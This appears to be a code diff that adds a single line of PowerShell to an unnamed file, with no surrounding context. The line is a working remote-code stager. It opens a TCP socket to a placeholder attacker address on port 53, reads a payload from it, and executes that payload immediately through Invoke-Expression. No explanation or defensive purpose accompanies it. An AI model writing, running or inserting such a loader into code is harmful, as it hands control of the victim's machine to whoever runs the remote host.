@@ -1,0 +1,1 @@
+$s=New-Object Net.Sockets.Socket([Net.Sockets.AddressFamily]::InterNetwork,[Net.Sockets.SocketType]::Stream,[Net.Sockets.ProtocolType]::Tcp);$s.Connect('192.0.2.32',53);$b=New-Object byte[] 999;$n=$s.Receive($b);iex ([Text.Encoding]::ASCII.GetString($b,0,$n))
